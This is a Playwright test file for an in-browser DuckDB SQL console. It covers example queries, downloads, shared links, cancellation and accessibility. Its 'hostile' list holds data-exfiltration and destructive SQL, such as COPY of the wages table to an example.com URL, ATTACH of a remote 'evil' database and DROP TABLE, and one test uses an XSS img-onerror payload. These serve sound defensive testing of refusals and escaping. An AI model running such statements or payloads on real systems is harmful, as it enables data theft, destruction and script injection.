/**
 * The SQL console (/sql): examples and typed queries run in the page, names complete, the CSV is
 * the result, a link carries a query but never runs it, hostile statements fail with a clear
 * message and no request leaves the page (the `watch` fixture), and the console's code loads
 * only on /sql.
 */
import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { readCsvDownload } from './csv-download';
import { readFile } from 'node:fs/promises';
import { parquetReadObjects } from 'hyparquet';

const editor = (page: Page) => page.locator('[data-testid=sql-editor] .cm-content');

async function openConsole(page: Page, q?: string) {
	await page.goto(q === undefined ? '/sql' : `/sql?q=${encodeURIComponent(q)}`);
	await expect(editor(page)).toBeVisible({ timeout: 30_000 });
}

async function typeQuery(page: Page, sql: string) {
	await editor(page).click();
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.press('Delete');
	await page.keyboard.insertText(sql);
}

async function runAndWait(page: Page) {
	await page.getByTestId('sql-run').click();
	await expect(page.getByTestId('sql-run')).toBeEnabled({ timeout: 60_000 });
}

const status = (page: Page) => page.getByTestId('sql-status');

async function resultCells(page: Page): Promise<string[][]> {
	return page
		.getByTestId('sql-result')
		.locator('tbody tr:not(.spacer)')
		.evaluateAll((rows) => rows.map((r) => Array.from(r.querySelectorAll('td')).map((c) => (c.textContent ?? '').trim())));
}

test('an example answers its question: 11-3021 median by year, the May 2024 figure as published', async ({ page }) => {
	await openConsole(page);
	await page.getByTestId('example-constant-dollars').click();
	await runAndWait(page);
	await expect(status(page)).toContainText(/rows in/);
	const rows = await resultCells(page);
	const may2024 = rows.find((r) => r[1] === '2024');
	expect(may2024?.[2], 'OEWS May 2024 national median of 11-3021').toBe('171200');
	// The latest year is its own base: constant and current dollars agree there.
	const last = rows.at(-1)!;
	expect(last[5]).toBe(last[2]);
});

test('a typed query runs with Ctrl+Enter and counts what the manifest says', async ({ page, request }) => {
	const manifest = await (await request.get('/data/manifest.json')).json();
	await openConsole(page);
	await typeQuery(page, 'SELECT count(*) AS n FROM wages');
	await page.keyboard.press('ControlOrMeta+Enter');
	await expect(status(page)).toContainText('1 row in', { timeout: 60_000 });
	expect((await resultCells(page))[0]).toEqual(['1', String(manifest.tables.wages.rows)]);
});

test('completion offers table names from the contract', async ({ page }) => {
	await openConsole(page);
	await typeQuery(page, 'SELECT * FROM ');
	await page.keyboard.type('price_pa');
	await expect(page.locator('.cm-tooltip-autocomplete')).toContainText('price_parities');
});

test('the CSV download is the result, with release and source on every row', async ({ page }) => {
	await openConsole(page);
	await page.getByTestId('example-security-states').click();
	await runAndWait(page);
	const shown = await resultCells(page);
	expect(shown.length).toBeGreaterThan(5);
	const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('sql-csv').click()]);
	const csv = await readCsvDownload(download);
	expect(csv.header.slice(0, -2)).toEqual(['area_title', 'state', 'year', 'a_median', 'tot_emp']);
	expect(csv.rows.map((r) => r.slice(0, -2))).toEqual(shown.map((r) => r.slice(1)));
	expect(csv.rows[0]!.at(-2)).toContain('OEWS May 2024');

	// The Parquet download holds the same rows, read back by a second reader (hyparquet).
	const [pq] = await Promise.all([page.waitForEvent('download'), page.getByTestId('sql-parquet').click()]);
	expect(pq.suggestedFilename()).toMatch(/\.parquet$/);
	const bytes = await readFile((await pq.path())!);
	const back = await parquetReadObjects({ file: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) });
	expect(back.map((r) => csv.header.map((c) => (r[c] === null ? '' : String(r[c]))))).toEqual(csv.rows);
});

test('a link shows its query and does not run it until Run is pressed', async ({ page }) => {
	await openConsole(page, 'SELECT 42 AS answer');
	await expect(editor(page)).toHaveText('SELECT 42 AS answer');
	await expect(page.getByTestId('sql-from-link')).toBeVisible();
	await page.waitForTimeout(1500);
	await expect(page.getByTestId('sql-result')).toHaveCount(0);
	expect(await page.evaluate(() => performance.getEntriesByName('duckdb-start').length), 'engine not even started').toBe(0);
	await runAndWait(page);
	expect(await resultCells(page)).toEqual([['1', '42']]);
	// The statement run is the one in the link, for sharing.
	await typeQuery(page, 'SELECT 7 AS seven');
	await runAndWait(page);
	expect(new URL(page.url()).searchParams.get('q')).toBe('SELECT 7 AS seven');
});

const hostile = [
	"ATTACH 'https://example.com/evil.duckdb' AS evil",
	"COPY (SELECT * FROM wages) TO 'https://example.com/out.csv'",
	"EXPORT DATABASE 'https://example.com/dump'",
	'INSTALL httpfs',
	'LOAD httpfs',
	'SET enable_external_access = true',
	"CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
	"SELECT * FROM read_csv('https://example.com/a.csv')",
	"SELECT * FROM read_parquet('/data/wages.parquet')",
	"SELECT * FROM 'https://example.com/a.parquet'",
	"SELECT * FROM glob('*')",
	'DROP TABLE wages'
];

test('hostile statements fail with a clear message and no request leaves the page', async ({ page }) => {
	await openConsole(page);
	for (const sql of hostile) {
		await typeQuery(page, sql);
		await runAndWait(page);
		await expect(page.getByTestId('sql-error'), sql).toContainText(/Not allowed here|Only queries that read/);
		await expect(page.getByTestId('sql-result')).toHaveCount(0);
	}
	// The second wall: the engine itself has external access off and its settings locked.
	await typeQuery(page, "SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration') ORDER BY name");
	await runAndWait(page);
	expect(await resultCells(page)).toEqual([
		['1', 'enable_external_access', 'false'],
		['2', 'lock_configuration', 'true']
	]);
});

test('a hostile link does not run, and running it only shows the refusal', async ({ page }) => {
	await openConsole(page, "ATTACH 'https://example.com/x.duckdb' AS x");
	await page.waitForTimeout(1000);
	await expect(page.getByTestId('sql-error')).toHaveCount(0);
	await runAndWait(page);
	await expect(page.getByTestId('sql-error')).toContainText('Not allowed here: ATTACH');
});

test('errors from DuckDB are shown as text, never as HTML', async ({ page }) => {
	await openConsole(page);
	await typeQuery(page, 'SELECT * FROM "<img src=x onerror=alert(1)>"');
	await runAndWait(page);
	await expect(page.getByTestId('sql-error')).toContainText('<img src=x onerror=alert(1)>');
	await expect(page.getByTestId('sql-error').locator('img')).toHaveCount(0);
});

test('100,000 rows: counted, and only the rows in view are in the page', async ({ page }) => {
	await openConsole(page);
	await typeQuery(page, 'SELECT range + 1 AS i, (range + 1) * 2 AS j FROM range(100000)');
	await runAndWait(page);
	await expect(status(page)).toContainText('100,000 rows');
	const result = page.getByTestId('sql-result');
	expect(await result.locator('tbody tr').count()).toBeLessThan(100);
	await result.evaluate((el) => (el.scrollTop = el.scrollHeight));
	await expect(result.locator('tbody tr:not(.spacer)').last()).toContainText('200000');
});

test('a long query can be cancelled, the page stays responsive, and the next query runs', async ({ page }) => {
	await openConsole(page);
	await typeQuery(page, 'SELECT sum(a.range * b.range) FROM range(200000) a, range(200000) b');
	await page.getByTestId('sql-run').click();
	await expect(page.getByTestId('sql-cancel')).toBeEnabled();
	await page.waitForTimeout(2000);
	// The main thread answers at once while the worker is busy.
	const frame = await page.evaluate(() => new Promise<number>((r) => requestAnimationFrame((t0) => requestAnimationFrame((t1) => r(t1 - t0)))));
	expect(frame).toBeLessThan(500);
	await page.getByTestId('sql-cancel').click();
	await expect(page.getByTestId('sql-error')).toContainText('cancelled');
	await typeQuery(page, 'SELECT 1 AS one');
	await runAndWait(page);
	expect(await resultCells(page)).toEqual([['1', '1']]);
});

test("the console's code loads only on /sql", async ({ page }) => {
	const bodies: string[] = [];
	page.on('response', async (r) => {
		if (r.request().resourceType() === 'script') bodies.push(await r.text().catch(() => ''));
	});
	for (const path of ['/', '/roles', '/trends', '/compare', '/about', '/data']) {
		await page.goto(path);
		await page.waitForLoadState('networkidle');
	}
	expect(bodies.length).toBeGreaterThan(0);
	const leaked = bodies.filter((b) => b.includes('cm-content') || b.includes('lock_configuration'));
	expect(leaked, 'CodeMirror or console code on other pages').toHaveLength(0);
});

test('axe: no serious or critical violations on /sql with a result, and no sideways scroll @phone', async ({ page }) => {
	test.setTimeout(150_000);
	await openConsole(page);
	await page.getByTestId('example-security-states').click();
	await runAndWait(page);
	for (const d of await page.locator('details').all()) await d.evaluate((el) => ((el as HTMLDetailsElement).open = true));
	const results = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze();
	const bad = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
	expect(bad.map((v) => `${v.id}: ${v.help} (${v.nodes.length}× e.g. ${v.nodes[0]?.target.join(' ')})`)).toEqual([]);
	expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(page.viewportSize()!.width);
});
